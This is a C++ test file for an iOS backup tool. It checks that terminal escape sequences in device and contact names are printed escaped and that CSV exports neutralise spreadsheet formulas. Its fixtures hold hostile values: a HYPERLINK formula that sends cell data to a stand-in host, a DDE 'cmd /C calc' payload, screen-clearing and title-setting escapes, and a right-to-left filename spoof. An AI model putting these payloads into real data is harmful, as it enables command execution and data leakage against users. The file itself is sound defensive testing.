// End to end: the texts of a hostile backup on their way out. A device name
// and a contact name made of terminal escapes are printed by list, info and
// sqlite decode as visible escapes; a message text and a contact name shaped
// as spreadsheet formulas are exported into every CSV (readable documents and
// row dumps) as text.

#include "support/BackupBuilder.h"
#include "support/CliRun.h"
#include "support/DeviceDbAddressBook.h"
#include "support/DeviceDbSms.h"
#include "support/TempFolder.h"

#include <gtest/gtest.h>

#include <algorithm>

namespace orvelle {
namespace {

namespace fs = std::filesystem;
using test::CliRun;
using test::orvelle;

/// Sets the terminal's title, rings the bell, clears the screen, rewrites the
/// line and starts a row of its own.
constexpr const char* kDeviceName = "\x1b]0;owned\x07" "Ann\x1b[2J\rfake\n2024-01-01 00:00:00  Fake";
constexpr const char* kShownDeviceName = "\\x1b]0;owned\\x07Ann\\x1b[2J\\rfake\\n2024-01-01 00:00:00  Fake";
constexpr const char* kMessageText = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
constexpr const char* kContactName = "-2+3+cmd|' /C calc'!A0";
/// Sets the title, then turns the rest of the line around.
constexpr const char* kEscapeName = "\x1b]0;t\x07" "Eve\xE2\x80\xAE" "gpj.exe";
constexpr const char* kShownEscapeName = "\\x1b]0;t\\x07Eve\\u202egpj.exe";

/// The only file named `name` below `folder`.
fs::path fileBelow(const fs::path& folder, const std::string& name) {
    for (const auto& entry : fs::recursive_directory_iterator(folder))
        if (entry.path().filename() == name) return entry.path();
    ADD_FAILURE() << "no " << name << " below " << folder;
    return {};
}

class HostileText : public ::testing::Test {
protected:
    void SetUp() override {
        {
            test::SmsDb sms(temp / "sms.db", test::SmsLayout::ios14);
            test::SmsMessage message;
            message.text = std::string(kMessageText);
            message.handleId = sms.addHandle("+12025550199");
            sms.addMessage(message);
            sms.close();
            test::AddressBookDb book(temp / "AddressBook.sqlitedb", test::AddressBookLayout::ios15);
            test::Person person;
            person.first = kContactName;
            person.phones = {"+1 (202) 555-0199"};
            book.addPerson(person);
            test::Person escapes;
            escapes.first = kEscapeName;
            escapes.phones = {"+1 (202) 555-0100"};
            book.addPerson(escapes);
            book.close();
        }
        test::BackupBuilder builder;
        // A binary property list holds any byte in a string.
        builder.setPlistFormat(test::PlistFormat::Binary);
        builder.infoPlist().set("Device Name", kDeviceName).set("Display Name", kDeviceName);
        builder.addFile("HomeDomain", "Library/SMS/sms.db", test::readFile(temp / "sms.db"));
        builder.addFile("HomeDomain", "Library/AddressBook/AddressBook.sqlitedb",
                        test::readFile(temp / "AddressBook.sqlitedb"));
        backup = builder.build(temp / "root" / "hostile");
    }

    test::TempFolder temp;
    fs::path backup;
};

TEST_F(HostileText, ListAndInfoPrintControlCharactersEscaped) {
    const CliRun list = orvelle(temp, {"list", "--backup-root", test::arg(temp / "root")});
    const CliRun info = orvelle(temp, {"info", test::arg(backup)});
    for (const CliRun* run : {&list, &info}) {
        ASSERT_EQ(run->exitCode, 0) << run->err;
        for (const char control : {'\x1b', '\x07', '\r'})
            EXPECT_EQ(run->out.find(control), std::string::npos) << run->out;
        EXPECT_NE(run->out.find(kShownDeviceName), std::string::npos) << run->out;
    }
    // Header, rule and the backup's one row: the name's line break made no row of its own.
    EXPECT_EQ(std::count(list.out.begin(), list.out.end(), '\n'), 3) << list.out;
}

TEST_F(HostileText, DecodedRecordsPrintControlCharactersEscaped) {
    const CliRun run = orvelle(temp, {"sqlite", "decode", "contacts", test::arg(temp / "AddressBook.sqlitedb")});
    ASSERT_EQ(run.exitCode, 0) << run.err;
    for (const char control : {'\x1b', '\x07'})
        EXPECT_EQ(run.out.find(control), std::string::npos) << run.out;
    EXPECT_EQ(run.out.find("\xE2\x80\xAE"), std::string::npos) << run.out;
    EXPECT_NE(run.out.find(kShownEscapeName), std::string::npos) << run.out;
}

TEST_F(HostileText, ExportedCsvCellsNeverStartAFormula) {
    const fs::path out = temp / "out";
    const CliRun run =
        orvelle(temp, {"export", test::arg(backup), test::arg(out), "--categories", "messages,contacts"});
    ASSERT_EQ(run.exitCode, 0) << run.err;

    // The readable documents: the field guarded, then quoted as RFC 4180 asks.
    const std::string messages = test::readFile(fileBelow(out, "Messages.csv"));
    EXPECT_NE(messages.find(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\","), std::string::npos)
        << messages;
    const std::string contacts = test::readFile(fileBelow(out, "Contact list.csv"));
    EXPECT_NE(contacts.find("\n'-2+3+cmd|' /C calc'!A0,"), std::string::npos) << contacts;
    EXPECT_NE(contacts.find(",+12025550199,"), std::string::npos) << "a phone number stays as it is";

    // The row dumps: SQL texts, quotes doubled, the guard inside them.
    const std::string messageRows = test::readFile(fileBelow(out, "sms.csv"));
    EXPECT_NE(messageRows.find("\"''=HYPERLINK("), std::string::npos) << messageRows;
    EXPECT_EQ(messageRows.find("\"=HYPERLINK("), std::string::npos) << messageRows;
    const std::string contactRows = test::readFile(fileBelow(out, "Contacts.csv"));
    EXPECT_NE(contactRows.find("\"''-2+3+cmd|'' /C calc''!A0\""), std::string::npos) << contactRows;
    EXPECT_EQ(contactRows.find("\"-2+3+cmd"), std::string::npos) << contactRows;
}

} // namespace
} // namespace orvelle
